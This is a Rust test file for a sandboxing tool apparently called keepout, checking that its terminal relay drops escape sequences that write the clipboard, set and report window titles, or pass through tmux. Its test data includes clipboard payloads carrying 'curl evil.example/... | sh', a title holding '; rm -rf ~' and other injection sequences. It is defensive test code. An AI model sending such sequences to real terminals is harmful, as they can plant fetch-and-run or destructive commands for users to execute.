//! A17: the terminal as a target of the command's *output*. Escape sequences can set the
//! maintainer's clipboard (OSC 52), set the window title and have the terminal type it back as
//! input (`CSI 21t`), make hyperlinks, talk through tmux to the terminal outside (`DCS tmux;`),
//! and more. keepout's relay drops them and keeps drawing (colours, cursor movement) byte-exact.
//! Real terminals only: a tmux server on a socket of the test's own, and `script` (util-linux),
//! whose typescript holds the bytes that reached the terminal.

use std::time::Duration;

use super::harness::*;

/// A tmux server of this test's own, as the runner; killed at the end (and, its socket name
/// being a fixture marker, by the fixture's drop if the test fails first).
struct Tmux<'a> {
    fx: &'a Fixture,
    socket: String,
}

impl<'a> Tmux<'a> {
    fn start(fx: &'a Fixture) -> Tmux<'a> {
        assert!(have("tmux"), "`tmux` not found: install tmux");
        let socket = fx.marker("tmux");
        let t = Tmux { fx, socket };
        // An idle first window, so that the options are set before any command runs.
        let out = t.tmux(
            "-f /dev/null new-session -d -x 100 -y 30 -s a17 'sleep 600' \\; \
             set -g set-clipboard on \\; set -g remain-on-exit on",
        );
        assert!(out.success(), "start tmux:{out}");
        t
    }

    fn tmux(&self, args: &str) -> Output {
        self.fx
            .outside(&format!("tmux -L {} {args}", q(&self.socket)))
    }

    /// Run `cmd` in a new window; wait until it ends; its window's name.
    fn run(&self, name: &str, cmd: &str) {
        let out = self.tmux(&format!("new-window -d -n {name} {}", q(cmd)));
        assert!(out.success(), "tmux new-window:{out}");
        let ended = poll(TIMEOUT, || self.format(name, "#{pane_dead}").trim() == "1");
        assert!(ended, "{name} did not end:\n{}", self.capture(name));
    }

    fn format(&self, window: &str, format: &str) -> String {
        self.tmux(&format!("display-message -p -t a17:{window} {}", q(format)))
            .stdout
    }

    fn capture(&self, window: &str) -> String {
        self.tmux(&format!("capture-pane -p -S - -t a17:{window}"))
            .stdout
    }

    /// The exit status a command run as `sh -c 'CMD; echo "EXIT=$?"'` printed in its pane
    /// (tmux's own `pane_dead_status` is not always filled in: it can leave the process a
    /// zombie it has not reaped yet).
    fn exit_status(&self, window: &str) -> String {
        let mut status = String::new();
        poll(Duration::from_secs(10), || {
            status = self
                .capture(window)
                .lines()
                .find_map(|l| l.trim().strip_prefix("EXIT=").map(str::to_string))
                .unwrap_or_default();
            !status.is_empty()
        });
        status
    }

    /// The newest paste buffer, what the clipboard got.
    fn buffer(&self) -> Output {
        self.tmux("show-buffer")
    }
}

impl Drop for Tmux<'_> {
    fn drop(&mut self) {
        let _ = self.tmux("kill-server");
    }
}

fn b64(s: &str) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in s.as_bytes().chunks(3) {
        let n = c.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - c.len()));
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A program that writes `bytes` (given as a Python bytes literal) to its terminal.
fn writer(fx: &Fixture, name: &str, bytes: &str) -> String {
    let py = fx.script(name, &format!("import os, sys\nos.write(1, {bytes})\n"));
    format!("{PYTHON} {py}")
}

/// OSC 52: outside, a program sets the clipboard of the terminal it runs in (tmux with
/// set-clipboard on makes it a paste buffer); inside keepout, the sequence never reaches tmux,
/// and keepout says so.
#[test]
fn clipboard_write_is_dropped() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let tmux = Tmux::start(&fx);
        let payload = format!("curl evil.example/{} | sh", fx.rand);
        let cmd = writer(
            &fx,
            "osc52.py",
            &format!("b'\\x1b]52;c;{}\\x07copied\\n'", b64(&payload)),
        );

        tmux.run("outside", &cmd);
        let buf = tmux.buffer();
        assert!(
            buf.stdout.contains(&payload),
            "[{r}] outside: the program wrote tmux's clipboard (proves the attack):{buf}"
        );
        assert!(tmux.tmux("delete-buffer").success());

        tmux.run("inside", &format!("{} run -- {cmd}", keepout_bin()));
        let screen = tmux.capture("inside");
        assert!(
            screen.contains("copied"),
            "[{r}] inside: the text arrives:\n{screen}"
        );
        let buf = tmux.buffer();
        assert!(
            !buf.stdout.contains(&payload),
            "[{r}] inside: the clipboard must stay untouched:{buf}"
        );
        assert!(
            screen.contains("keepout: terminal: dropped 1 sequence: OSC 52 clipboard write"),
            "[{r}] inside: keepout says what it dropped:\n{screen}"
        );
    }
}

/// The title: outside, OSC 2 sets the title of the pane (the first half of the title-report
/// injection: `CSI 21t` then makes xterm type it back as input); inside, the title stays.
#[test]
fn title_set_is_dropped() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let tmux = Tmux::start(&fx);
        let title = format!("pwned-{}", fx.rand);
        let cmd = writer(
            &fx,
            "title.py",
            &format!("b'\\x1b]2;{title}\\x07\\x1b[21ttitled\\n'"),
        );

        tmux.run("outside", &cmd);
        assert_eq!(
            tmux.format("outside", "#{pane_title}").trim(),
            title,
            "[{r}] outside: the program set the title (proves the attack)"
        );

        tmux.run("inside", &format!("{} run -- {cmd}", keepout_bin()));
        let shown = tmux.format("inside", "#{pane_title}");
        assert_ne!(shown.trim(), title, "[{r}] inside: the title must stay");
        let screen = tmux.capture("inside");
        assert!(
            screen.contains("titled")
                && screen.contains(
                    "keepout: terminal: dropped 2 sequences: OSC 2 title · CSI 21t title report"
                ),
            "[{r}] inside: the text arrives, and keepout says what it dropped:\n{screen}"
        );
    }
}

/// Every kind at once, under `script`: outside, the raw bytes reach the terminal (the
/// typescript holds them); inside, they are gone, while colours and cursor movement arrive
/// byte-exact. Both modes.
#[test]
fn only_drawing_reaches_the_terminal() {
    assert!(have("script"), "`script` not found: install bsdutils");
    let drawing = [
        "\x1b[1;31mRED\x1b[0m",
        "\x1b[38;2;1;2;3mRGB\x1b[m",
        "\x1b[5;10H",
        "\x1b[2K",
        "\x1b[?25l\x1b[?25h",
    ];
    let attacks = [
        "\x1b]52;c;YXR0YWNr\x07",
        "\x1b]2;; rm -rf ~\x07",
        "\x1b[21t",
        "\x1b[20t",
        "\x1b[8;200;200t",
        "\x1b]8;;https://evil.example/\x1b\\",
        "\x1bP$qm\x1b\\",
        "\x1bPtmux;\x1b\x1b]52;c;YXR0YWNr\x07\x1b\\",
        "\x1b_APC\x1b\\",
        "\x1b]11;?\x07",
        "\u{9b}21t",
    ];
    for r in runners() {
        let fx = Fixture::new(&r);
        let mut stream = String::from("BEGIN");
        for (i, d) in drawing.iter().enumerate() {
            stream.push_str(d);
            if let Some(a) = attacks.get(i) {
                stream.push_str(a);
            }
        }
        for a in &attacks[drawing.len()..] {
            stream.push_str(a);
        }
        stream.push_str("END");
        let bytes: String = stream
            .as_bytes()
            .iter()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let cmd = writer(&fx, "all.py", &format!("b'{bytes}'"));
        let typescript = fx.project.join("typescript");
        let under_script = |what: &str| {
            let _ = std::fs::remove_file(&typescript);
            let out = fx.outside(&format!(
                "script -qec {} {} >/dev/null",
                q(what),
                typescript.display()
            ));
            assert!(out.success(), "[{r}] script:{out}");
            let raw = std::fs::read(&typescript).expect("the typescript");
            String::from_utf8_lossy(&raw).into_owned()
        };

        let out = under_script(&cmd);
        for a in &attacks {
            assert!(
                out.contains(a),
                "[{r}] outside: {a:?} reaches the terminal (proves the attack):\n{out:?}"
            );
        }

        for mode in ["namespaces", "landlock"] {
            let inn = under_script(&format!("{} run --mode {mode} -- {cmd}", keepout_bin()));
            // The tmux passthrough's own ST, left after its inner sequence: alone it does
            // nothing.
            let seen = inn.replace("\x1b\\", "");
            let expected = format!("BEGIN{}END", drawing.concat());
            assert!(
                seen.contains(&expected),
                "[{r}] inside ({mode}): drawing arrives byte-exact, nothing else:\n{inn:?}"
            );
            for a in &attacks {
                assert!(
                    !inn.contains(a),
                    "[{r}] inside ({mode}): {a:?} must not reach the terminal:\n{inn:?}"
                );
            }
            assert!(
                inn.contains(
                    "keepout: terminal: dropped 12 sequences: OSC 52 clipboard write ×2 · \
                     OSC 2 title · CSI 21t title report ×2 · CSI 20t icon label report · \
                     CSI 8t window op · OSC 8 hyperlink · and 4 more kinds"
                ),
                "[{r}] inside ({mode}): keepout says what it dropped:\n{inn:?}"
            );
        }
    }
}

/// Ordinary work: vim, full screen, through keepout in a tmux pane: it draws, takes `:q` and
/// exits 0.
#[test]
fn vim_works_in_a_real_terminal() {
    if !have("vim") {
        note("vim not installed: skipping vim_works_in_a_real_terminal");
        return;
    }
    for r in runners() {
        let fx = Fixture::new(&r);
        write_file(
            &fx.project.join("notes.txt"),
            "hello from the project\n",
            0o644,
        );
        fx.give_to_runner(&fx.project.join("notes.txt"));
        let tmux = Tmux::start(&fx);
        let cmd = format!(
            "{} run -- vim -u NONE -N notes.txt; echo \"EXIT=$?\"",
            keepout_bin()
        );
        let out = tmux.tmux(&format!(
            "new-window -d -n vim -c {} {}",
            q(fx.project.display().to_string()),
            q(&cmd)
        ));
        assert!(out.success(), "tmux new-window:{out}");
        let drawn = poll(TIMEOUT, || {
            let s = tmux.capture("vim");
            s.contains("hello from the project") && s.lines().any(|l| l.starts_with('~'))
        });
        assert!(
            drawn,
            "[{r}] vim draws its screen:\n{}",
            tmux.capture("vim")
        );
        assert!(tmux.tmux("send-keys -t a17:vim Escape :q Enter").success());
        let ended = poll(TIMEOUT, || tmux.format("vim", "#{pane_dead}").trim() == "1");
        assert!(ended, "[{r}] vim quits on :q:\n{}", tmux.capture("vim"));
        assert_eq!(
            tmux.exit_status("vim"),
            "0",
            "[{r}] vim exits 0:\n{}",
            tmux.capture("vim")
        );
        assert!(
            tmux.format("vim", "#{alternate_on}").trim() == "0",
            "[{r}] vim left the alternate screen (its DEC private modes passed)"
        );
    }
}

/// `--allow-clipboard`: a clipboard write reaches tmux; a clipboard read is still dropped.
#[test]
fn allow_clipboard_passes_writes_only() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let tmux = Tmux::start(&fx);
        let text = format!("yanked-{}", fx.rand);
        let cmd = writer(
            &fx,
            "yank.py",
            &format!("b'\\x1b]52;c;{}\\x07\\x1b]52;c;?\\x07done\\n'", b64(&text)),
        );
        tmux.run(
            "inside",
            &format!("{} run --allow-clipboard -- {cmd}", keepout_bin()),
        );
        let buf = tmux.buffer();
        assert!(
            buf.stdout.contains(&text),
            "[{r}] --allow-clipboard: the write reaches the clipboard:{buf}\n{}",
            tmux.capture("inside")
        );
        let screen = tmux.capture("inside");
        assert!(
            screen.contains("keepout: terminal: dropped 1 sequence: OSC 52 clipboard read"),
            "[{r}] --allow-clipboard: the read is still dropped:\n{screen}"
        );
    }
}

/// Ordinary work: `keepout shell` with vim in a real terminal: vim draws in a workspace,
/// takes typed text and `:wq`, and the next `keepout shell` finds the file as written.
#[test]
fn vim_works_in_keepout_shell() {
    if !have("vim") {
        note("vim not installed: skipping vim_works_in_keepout_shell");
        return;
    }
    for r in runners() {
        let fx = Fixture::new(&r);
        let tmux = Tmux::start(&fx);
        let cmd = format!(
            "{} shell vimws --new -- sh -c 'echo first line > notes.txt; exec vim -u NONE -N notes.txt'; echo \"EXIT=$?\"",
            keepout_bin()
        );
        let out = tmux.tmux(&format!("new-window -d -n vim {}", q(&cmd)));
        assert!(out.success(), "tmux new-window:{out}");
        let drawn = poll(TIMEOUT, || {
            let s = tmux.capture("vim");
            s.contains("first line") && s.lines().any(|l| l.starts_with('~'))
        });
        assert!(
            drawn,
            "[{r}] vim draws in keepout shell:\n{}",
            tmux.capture("vim")
        );
        let typed = format!("typed-{}", fx.rand);
        assert!(tmux
            .tmux(&format!(
                "send-keys -t a17:vim G o {typed} Escape :wq Enter"
            ))
            .success());
        let ended = poll(TIMEOUT, || tmux.format("vim", "#{pane_dead}").trim() == "1");
        assert!(ended, "[{r}] vim quits on :wq:\n{}", tmux.capture("vim"));
        assert_eq!(
            tmux.exit_status("vim"),
            "0",
            "[{r}] keepout shell exits 0:\n{}",
            tmux.capture("vim")
        );
        let cat = fx.keepout(&["shell", "vimws", "--", "cat", "notes.txt"]);
        assert!(
            cat.stdout.contains("first line") && cat.stdout.contains(&typed),
            "[{r}] the workspace keeps what vim wrote:{cat}"
        );
    }
}
